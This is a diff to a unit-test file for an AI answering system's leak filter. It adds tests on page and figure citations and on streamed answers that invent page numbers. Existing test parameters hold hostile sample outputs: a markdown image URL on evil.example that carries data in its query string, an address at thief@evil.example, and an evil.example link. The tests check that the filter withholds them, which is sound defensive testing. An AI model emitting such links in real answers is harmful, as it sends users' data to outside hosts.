@@ -9,6 +9,7 @@ from causeway.answering.settings import AnswerSettings
 from causeway.answering.turn import REFUSAL, Answer, Turn
 from causeway.runtime.deadlines import Deadline
 from causeway.safety.instructions import instructions_in
+from causeway.safety.leaks import Outgoing
 from tests.unit.loopback import Services, hit
 
 TRUE = "Books may be returned within 30 days with the receipt."
@@ -75,6 +76,8 @@ def test_each_turn_has_delimiters_of_its_own_behind_the_same_system_prompt(servi
         "![receipt](https://evil.example/r.png?days=30)",
         "Books may be returned to thief@evil.example [1].",
         SYSTEM.split("\n")[0],
+        "Books may be returned with the receipt, see page 40 [1].",
+        "Books may be returned with the receipt, as Figure 8 shows [1].",
     ],
 )
 def test_a_sentence_with_what_must_not_leave_is_left_out(services: Services, added: str):
@@ -88,6 +91,33 @@ def test_an_answer_of_nothing_else_is_refused(services: Services):
     services.answer = "Books may be returned within 30 days at https://evil.example/returns [1]."
     found, _ = answer()
     assert (found.text, found.outcome) == (REFUSAL, "withheld")
+
+
+def test_pages_and_figures_of_the_cited_passage_leave_and_citations_show_its_pictures(services: Services):
+    shown = {
+        "id": "d49831997e5a642b",
+        "caption": "Figure 8: The receipt",
+        "key": "pictures/harbour/returns/1.v/d49831997e5a642b.png",
+        "page": 41,
+    }
+    services.hits = [hit("returns", text=f"{TRUE} Figure 8 shows it on page 40.", page=40, pages=[[0, 40]], pictures=[shown])]
+    services.answer = "Books may be returned within 30 days with the receipt, as Figure 8 on page 40 shows [1]."
+    found, turn = answer()
+    assert "Figure 8 on page 40" in found.text
+    assert [(picture.id, picture.page, picture.caption) for picture in found.citations[0].pictures] == [
+        ("d49831997e5a642b", 41, "Figure 8: The receipt")
+    ]
+    assert "kept_back" not in turn.notes
+
+
+@pytest.mark.parametrize("unchecked", ["held", "shown"])
+def test_who_reads_along_never_sees_a_page_that_is_not_there(unchecked: Any):
+    growing = Growing("How long?", [TRUE], unchecked, Outgoing([TRUE], places=[{"page 3"}]))
+    shown = [
+        growing.add(letter)
+        for letter in "Books may be returned within 30 days [1]. See page 40 with the receipt and the books [1]. Thanks."
+    ]
+    assert "page 40" not in shown[-1]
 
 
 @pytest.mark.parametrize("unchecked", ["held", "shown"])
